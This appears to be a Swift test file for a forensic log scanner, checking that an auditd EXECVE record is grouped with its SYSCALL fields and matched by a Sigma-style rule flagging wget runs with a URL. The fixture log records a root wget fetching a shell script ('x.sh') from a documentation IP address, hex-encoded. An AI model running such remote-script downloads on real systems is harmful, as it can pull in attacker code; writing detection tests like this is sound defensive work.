import DetectionRules
import ExposureReport
import Foundation
import Scanning
import Testing

/// auditd writes one event as several records sharing `msg=audit(epoch:serial)`; rules see the event.
@Suite("auditd events")
struct AuditEventTests {
    // A RAW-format event (no ENRICHED section): SYSCALL, EXECVE with hex-encoded arguments, PROCTITLE, EOE;
    // then an unrelated record with another serial. a1 is "http://203.0.113.45/x.sh" in hex.
    static let log = """
    type=SYSCALL msg=audit(1741341492.117:4401): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c a1=55d0d a2=55d0e a3=0 items=2 ppid=310720 pid=310733 auid=1003 uid=0 gid=0 euid=0 comm="wget" exe="/usr/bin/wget" key="exec"
    type=EXECVE msg=audit(1741341492.117:4401): argc=2 a0="wget" a1=687474703A2F2F3230332E302E3131332E34352F782E7368
    type=PROCTITLE msg=audit(1741341492.117:4401): proctitle=77676574
    type=EOE msg=audit(1741341492.117:4401):
    type=EXECVE msg=audit(1741341499.002:4402): argc=2 a0="ls" a1="/tmp"

    """

    static let rule = """
    title: Download tool run with a URL (auditd)
    id: 5f0f7a57-8a0b-4c1e-9d35-000000000201
    logsource: {product: linux, service: auditd}
    detection:
        selection:
            type: EXECVE
            exe|endswith: '/wget'
            a1|startswith: 'http://'
            SYSCALL: execve
        condition: selection
    level: high
    """

    @Test("an EXECVE record sees its event's SYSCALL fields, and RAW logs get the syscall's name")
    func eventFields() throws {
        let fixtures = try ScanFixtures()
        defer { fixtures.remove() }
        try fixtures.write("var/log/audit/audit.log", Array(Self.log.utf8))
        let loaded = try RuleLoader().loadDocuments(Self.rule, path: "t.yml")
        let rules = try RuleSet(rules: loaded, files: ["t.yml"], sha256: "t")
        var configuration = ScanConfiguration(evidencePaths: [fixtures.root.path], jobs: 1, redactionKey: [1])
        configuration.timeZoneIdentifier = "UTC"
        let outcome = ScanPipeline(configuration: configuration, rules: rules).run()
        #expect(outcome.findings.map { $0.evidence[0].line } == [2])
        #expect(outcome.findings.first?.time?.utc == "2025-03-07T09:58:12.117000Z")
        #expect(outcome.evidence.first?.formats == ["auditd": 5])
    }
}
